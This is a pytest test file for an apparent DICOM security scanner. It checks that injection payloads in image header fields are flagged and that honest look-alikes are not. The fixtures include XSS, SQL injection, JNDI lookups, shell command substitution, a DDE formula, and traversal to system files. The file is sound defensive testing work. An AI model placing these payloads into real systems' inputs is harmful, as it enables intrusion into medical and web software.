"""Text values that attack their readers, and honest ones that look like it."""

import pytest

from dicomguard import Finding, Verdict, scan_bytes
from fixtures.carriers import carrier
from fixtures.dicomfile import element, private

COMMENTS = 0x00204000  # Image Comments, LT
NAME = 0x00100010
STATION = 0x00081010  # SH
POSITION = 0x00200032  # DS
INSTANCE = 0x00080018  # UI
RETRIEVE_URL = 0x00081190  # UR
DESCRIPTION = 0x0008103E  # LO
MODEL = 0x00081090  # LO

FAMILIES = ("TXT", "UID", "PATH", "URI")


def text_findings(*elements: object) -> list[Finding]:
    report = scan_bytes(carrier().with_(*elements).data)
    return [each for each in report.findings if each.kind.family in FAMILIES]


ATTACKS = {
    "script": (NAME, "PN", b"<script>alert(1)</script>", "TXT-XSS"),
    "handler": (COMMENTS, "LT", b"x <img src=x onerror=alert(1)>", "TXT-XSS"),
    "entity": (COMMENTS, "LT", b"%3Cscript%3E", "TXT-XSS"),
    "link": (COMMENTS, "LT", b"see javascript:alert(1)", "TXT-XSS"),
    "sql-or": (NAME, "PN", b"x' OR '1'='1", "TXT-SQLI"),
    "sql-union": (DESCRIPTION, "LO", b"1 UNION ALL SELECT name", "TXT-SQLI"),
    "sql-drop": (DESCRIPTION, "LO", b"x'; DROP TABLE study", "TXT-SQLI"),
    "jndi": (NAME, "PN", b"${jndi:ldap://192.0.2.1/a}", "TXT-JNDI"),
    "jndi-nested": (NAME, "PN", b"${${lower:j}ndi:x}", "TXT-JNDI"),
    "ansi": (DESCRIPTION, "LO", b"\x1b[2Jgone", "TXT-ANSI"),
    "tags": (COMMENTS, "LT", "fine\U000e0069\U000e0067".encode(), "TXT-UNICODE"),
    "dde": (DESCRIPTION, "LO", b"=cmd|' /C calc'!A0", "TXT-CSV"),
    "shell": (STATION, "SH", b"ct; curl x", "TXT-SHELL"),
    "substitution": (DESCRIPTION, "LO", b"T1 $(id)", "TXT-SHELL"),
    "eval": (POSITION, "DS", b"0\\0\\0\\exit(1)", "TXT-EVAL"),
    "uid": (INSTANCE, "UI", b"../../etc/cron.d/x", "UID-CHARS"),
    "uid-command": (INSTANCE, "UI", b"1.2.3;id", "UID-CHARS"),
    "traversal": (DESCRIPTION, "LO", b"../../x", "PATH-TRAVERSAL"),
    "traversal-encoded": (DESCRIPTION, "LO", b"%2e%2e%2fx", "PATH-TRAVERSAL"),
    "scheme": (RETRIEVE_URL, "UR", b"file:///etc/passwd", "URI-SCHEME"),
    "unc": (RETRIEVE_URL, "UR", b"\\\\host\\share", "URI-SCHEME"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_attack(name: str) -> None:
    tag, vr, value, expected = ATTACKS[name]
    report = scan_bytes(carrier().with_(element(tag, vr, value)).data)
    found = [each for each in report.findings if each.kind.id == expected]
    assert len(found) == 1, [each.kind.id for each in report.findings]
    assert found[0].place.tag_path == f"({tag >> 16:04X},{tag & 0xFFFF:04X})"
    assert found[0].masked
    assert report.verdict >= Verdict.SUSPICIOUS


HONEST = {
    "apostrophe": (NAME, "PN", b"O'Brien^Mary"),
    "apostrophe-or": (DESCRIPTION, "LO", b"Morrison's or Rutherford's"),
    "arrow": (STATION, "SH", b"A->P"),
    "angles": (DESCRIPTION, "LO", b"SAG > TRA-1.5 > COR-0.3"),
    "age": (DESCRIPTION, "LO", b"<1 yrs; > 18 yrs"),
    "tag-like": (DESCRIPTION, "LO", b"marked lesion<MPR Collection>"),
    "ampersand": (STATION, "SH", b"CT&MR"),
    "semicolons": (DESCRIPTION, "LO", b"1;HFS;100;;O;0;0"),
    "coils": (STATION, "SH", b"HL1,2;HU1,2"),
    "dashes": (NAME, "PN", b"----"),
    "url": (MODEL, "LO", b"https://github.com/fedorov/dcmqi.git"),
    "iso-2022": (NAME, "PN", b"Yamada^Tarou=\x1b$B;3ED\x1b(B^\x1b$BB@O:\x1b(B"),
    "exponent": (POSITION, "DS", b"1.5E-3\\-2\\+0.1"),
    "not-a-number": (POSITION, "DS", b"NaN\\0\\0"),
    "empty-values": (DESCRIPTION, "LO", b"CSA MPR\\\\CSAPARALLEL"),
    "hashed-uid": (INSTANCE, "UI", b"9f86d081884c7d659a2feaa0c55ad015"),
    "retrieve-url": (RETRIEVE_URL, "UR", b"https://pacs.example/wado/studies/1.2"),
    "dots": (DESCRIPTION, "LO", b"Thorax ... / Abdomen"),
}


@pytest.mark.parametrize("name", HONEST)
def test_honest_look_alike(name: str) -> None:
    assert not text_findings(element(*HONEST[name]))


def test_vendor_markup_in_private_text_is_honest() -> None:
    markup = b'<Script type="ExamCard"/><object href="#a"/><a href="b">c</a>'
    assert not text_findings(*private(markup, "UT"))


def test_a_million_attacks_make_one_finding() -> None:
    found = text_findings(element(COMMENTS, "LT", b"${jndi:x} " * 1000))
    assert [each.kind.id for each in found] == ["TXT-JNDI"]
    assert found[0].detail == "1000 times, first here"
